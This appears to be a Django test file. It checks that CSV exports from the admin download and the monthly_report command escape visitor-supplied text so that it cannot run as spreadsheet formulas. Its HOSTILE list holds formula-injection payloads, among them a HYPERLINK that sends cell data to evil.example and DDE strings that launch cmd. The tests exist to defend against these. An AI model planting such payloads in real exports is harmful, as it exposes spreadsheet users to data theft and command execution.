"""Text that visitors control (search words, referrers, campaigns) never runs as a spreadsheet
formula in the funders' CSV: on the admin download and on the command line."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.utils import translation

from insights.exports import spreadsheet_safe
from insights.models import DailyCount

pytestmark = pytest.mark.django_db
OCT = datetime.date(2026, 10, 1)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_month(locality):
    DailyCount.objects.create(date=OCT, metric="views", key="", count=100)
    DailyCount.objects.create(date=OCT - datetime.timedelta(days=30), metric="views", count=200)
    for index, text in enumerate(HOSTILE):
        for metric in ("search", "referrer", "campaign", "search_empty"):
            DailyCount.objects.create(date=OCT, metric=metric, key=text, count=50 + index)


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text):
    found = cells(text)
    for cell in found:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell
    for hostile in HOSTILE:
        assert "'" + hostile in found


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 121", "'+44 121"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("GP near me", "GP near me"),
        ("", ""),
        (-12, -12),
        (None, None),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_the_command_line_csv_carries_no_formula(hostile_month, capsys):
    with translation.override("en"):  # labels in English whatever an earlier test activated
        call_command("monthly_report", "2026-10", "--format", "csv")
    text = capsys.readouterr().out
    assert_no_formula(text)
    assert "totals,Page views,100,-50," in text  # a negative change stays a number


def test_the_admin_csv_download_carries_no_formula(client, django_user_model, hostile_month):
    manager = django_user_model.objects.create_user("manager", password="pw", is_staff=True)
    manager.user_permissions.add(Permission.objects.get(codename="view_dailycount"))
    client.force_login(manager)
    response = client.get("/admin/insights/dailycount/report/?month=2026-10&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_no_formula(response.content.decode("utf-8-sig"))
